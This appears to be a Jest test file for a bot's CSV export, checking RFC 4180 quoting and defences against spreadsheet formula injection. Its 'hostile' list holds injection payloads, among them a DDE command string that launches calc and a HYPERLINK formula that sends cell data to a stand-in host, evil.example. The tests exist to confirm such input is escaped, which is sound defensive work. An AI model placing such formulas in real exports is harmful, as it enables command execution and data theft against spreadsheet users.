import { expect, test } from '@jest/globals';
import { byteOrderMark, csvRow } from '../../../bot/export/csv.ts';

/** Reads CSV as RFC 4180 says, so that nothing here depends on how we write it. */
function parse(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let at = 0; at < text.length; at += 1) {
    const sign = text.charAt(at);
    if (quoted && sign === '"' && text.charAt(at + 1) === '"') {
      cell += '"';
      at += 1;
    } else if (sign === '"') quoted = !quoted;
    else if (!quoted && sign === ',') {
      row.push(cell);
      cell = '';
    } else if (!quoted && sign === '\r' && text.charAt(at + 1) === '\n') {
      rows.push([...row, cell]);
      row = [];
      cell = '';
      at += 1;
    } else cell += sign;
  }
  return rows;
}

test('A row ends with both signs, numbers stand as they are, nothing stands for null', () => {
  expect(csvRow(['a', 1, null, -0.5, 'ü', ''])).toBe('a,1,,-0.5,ü,\r\n');
  expect(csvRow([Number.NaN, Number.POSITIVE_INFINITY])).toBe(',\r\n');
  expect(byteOrderMark).toBe('\uFEFF');
});

test.each([
  'a,b',
  'a"b',
  '"',
  '""',
  'a\nb',
  'a\r\nb',
  ' a',
  'a ',
  'a;b',
  'a\tb',
  "it's",
  'no formula = here',
])('%j comes back as it was', (text) => {
  expect(parse(csvRow([text, 'next']))).toEqual([[text, 'next']]);
});

const hostile = [
  '=1+1',
  '=cmd|"/C calc"!A0',
  '=HYPERLINK("https://evil.example?x="&A1,"click")',
  '+1',
  '-1+2',
  '@SUM(A1:A9)',
  '\0=1',
  '\tharmless',
  '\rharmless',
  '\nharmless',
  '\0harmless',
  '%0A=1',
  '|calc',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  ' =1',
  '\u00A0=1',
  '\u200B=1',
  '\uFEFF=1',
  '"=1',
  '" =1',
  '\u2028=1',
];

test.each(hostile)('%j is no formula, and is there to the last sign', (text) => {
  const [[cell = ''] = []] = parse(csvRow([text]));
  expect(cell).toBe(`'${text}`);
});

test.each([
  ['a;=1', "a;'=1"],
  ['a; =1', "a; '=1"],
  ['a;"=1', 'a;"\'=1'],
  ['a\t+1', "a\t'+1"],
  ['a\n@x', "a\n'@x"],
  ['a\r\n-x', "a\r\n'-x"],
  ['=1;=1', "'=1;'=1"],
  ['a;＝1', "a;'＝1"],
  ['\t=1', "'\t'=1"],
  ['\r=1', "'\r'=1"],
  ['\n=1', "'\n'=1"],
])('%j begins no cell where a program parts cells at other signs', (text, safe) => {
  expect(parse(csvRow([text]))).toEqual([[safe]]);
});

test.each([';', '\t', ' ', '\n', '"', '\u200B', '; '])(
  'a long row of %j takes no time to speak of',
  (sign) => {
    const text = sign.repeat(100_000);
    expect(parse(csvRow([text]))[0]?.[0]?.endsWith(text)).toBe(true);
  },
);

test('What begins with an apostrophe or a digit is left alone', () => {
  expect(csvRow(["'=1", '2026-11-25', '1=1', 'a@b.org'])).toBe("'=1,2026-11-25,1=1,a@b.org\r\n");
});
